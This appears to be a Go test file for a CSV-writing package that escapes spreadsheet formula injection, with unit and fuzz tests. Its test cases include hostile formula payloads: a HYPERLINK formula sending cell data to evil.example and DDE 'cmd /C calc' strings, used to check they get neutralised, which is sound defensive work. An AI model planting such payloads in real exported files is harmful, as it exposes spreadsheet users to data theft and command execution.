package csvsafe

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestCell(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1,"open")`: `'=HYPERLINK("https://evil.example/?"&A1,"open")`,
		"@SUM(A1:A9)":        "'@SUM(A1:A9)",
		"+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
		"-2+3":               "'-2+3",
		"\t=1":               "'\t=1",
		"\r=1":               "'\r=1",
		"＝1+1":               "'＝1+1",
		"＋1":                 "'＋1",
		"－1":                 "'－1",
		"＠SUM(A1)":           "'＠SUM(A1)",
		"'already quoted":    "''already quoted",
		"'":                  "''",
		"":                   "",
		"pow-family":         "pow-family",
		"2024-03":            "2024-03",
		"Ірина said =1":      "Ірина said =1",
		" =1":                " =1",
		`["a;b","c"]`:        `["a;b","c"]`,
		"ed25519:AAAA+/=":    "ed25519:AAAA+/=",
		"purpose: =cmd":      "purpose: =cmd",
	}
	for in, want := range cases {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
		if got := Unescape(Cell(in)); got != in {
			t.Errorf("Unescape(Cell(%q)) = %q", in, got)
		}
	}
}

// TestWriter: every cell of every row goes through Cell, and reading the
// file back with encoding/csv and Unescape gives the rows exactly.
func TestWriter(t *testing.T) {
	rows := [][]string{
		{"id", "public", "classes"},
		{"=1+1", List([]string{"a;b", "c"}), List([]string{"identity", "testimony"})},
		{"'x", "line one\nline two", `"quoted", and comma`},
	}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "'=1+1,") || !strings.Contains(buf.String(), `''x,`) {
		t.Errorf("formula cells not escaped:\n%s", buf.String())
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i := range got {
		for j := range got[i] {
			got[i][j] = Unescape(got[i][j])
		}
		if !slices.Equal(got[i], rows[i]) {
			t.Errorf("row %d read back as %q, want %q", i, got[i], rows[i])
		}
	}
}

func TestList(t *testing.T) {
	for _, tc := range []struct {
		in   []string
		want string
	}{
		{nil, "[]"},
		{[]string{"a;b", "c"}, `["a;b","c"]`},
		{[]string{"a", "b", "c"}, `["a","b","c"]`},
		{[]string{"<Ірина & co>", `q"uote`}, `["<Ірина & co>","q\"uote"]`},
	} {
		if got := List(tc.in); got != tc.want {
			t.Errorf("List(%q) = %s, want %s", tc.in, got, tc.want)
		}
	}
}

func TestBOM(t *testing.T) {
	var buf bytes.Buffer
	w := BOM(&buf)
	if buf.Len() != 0 {
		t.Error("BOM wrote before the first write")
	}
	if _, err := w.Write(nil); err != nil || buf.Len() != 0 {
		t.Errorf("an empty write wrote %q (err %v)", buf.String(), err)
	}
	w.Write([]byte("a,"))
	w.Write([]byte("b\n"))
	if got := buf.String(); got != "\ufeffa,b\n" {
		t.Errorf("BOM wrote %q", got)
	}
}

// FuzzCell: Unescape inverts Cell, and no escaped cell begins with a
// character a spreadsheet would read as a formula.
func FuzzCell(f *testing.F) {
	for _, s := range []string{"", "=1", "'", "''", "-", "＝", "\t", "\r\n", "plain", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := Cell(s)
		if Unescape(c) != s {
			t.Fatalf("Unescape(Cell(%q)) = %q", s, Unescape(c))
		}
		if r, _ := utf8.DecodeRuneInString(c); r != '\'' && needsQuote(c) {
			t.Fatalf("Cell(%q) = %q still starts a formula", s, c)
		}
		if (c != s) != strings.HasPrefix(c, "'") {
			t.Fatalf("Cell(%q) = %q: changed without a leading ' or the reverse", s, c)
		}
	})
}

// FuzzList: a list cell decodes back to its items with any JSON parser.
func FuzzList(f *testing.F) {
	f.Add("a;b", "c")
	f.Add("", "\"[,]\"")
	f.Fuzz(func(t *testing.T, a, b string) {
		if !utf8.ValidString(a) || !utf8.ValidString(b) {
			t.Skip("List replaces invalid UTF-8 with U+FFFD")
		}
		var got []string
		if err := json.Unmarshal([]byte(List([]string{a, b})), &got); err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(got, []string{a, b}) {
			t.Fatalf("List(%q, %q) decodes to %q", a, b, got)
		}
	})
}

// Excel in locales whose list separator is ';' splits an unquoted cell at
// ';': a cell holding one is quoted, so that no formula starts after it;
// and every row still reads back exactly with encoding/csv.
func TestSemicolonIsQuoted(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	row := []string{"id", "Kyiv;=cmd|' /C calc'!A0", "a,b", `say "hi"`, " lead", "tab\there", "plain"}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := `id,"Kyiv;=cmd|' /C calc'!A0","a,b","say ""hi"""," lead","tab` + "\t" + `here",plain` + "\n"
	if b.String() != want {
		t.Fatalf("wrote %q, want %q", b.String(), want)
	}
	got, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	for i := range row {
		if Unescape(got[i]) != row[i] {
			t.Errorf("cell %d read back as %q, want %q", i, got[i], row[i])
		}
	}
}

// FuzzWriter: a row written by Writer reads back with encoding/csv, cell
// for cell after Unescape (cells with '\r', which encoding/csv's reader
// turns into '\n' inside quotes, and invalid UTF-8 aside).
func FuzzWriter(f *testing.F) {
	f.Add("a;b", "=1+1", `"q"`)
	f.Add(" x", "\ty", "")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		row := []string{a, b, c}
		for _, s := range row {
			if strings.ContainsRune(s, '\r') || !utf8.ValidString(s) {
				return
			}
		}
		var buf bytes.Buffer
		w := NewWriter(&buf)
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		got, err := csv.NewReader(&buf).Read()
		if err != nil {
			t.Fatalf("%q: %v", buf.String(), err)
		}
		for i := range row {
			if len(got) != len(row) || Unescape(got[i]) != row[i] {
				t.Fatalf("wrote %q, read back %q", row, got)
			}
		}
	})
}
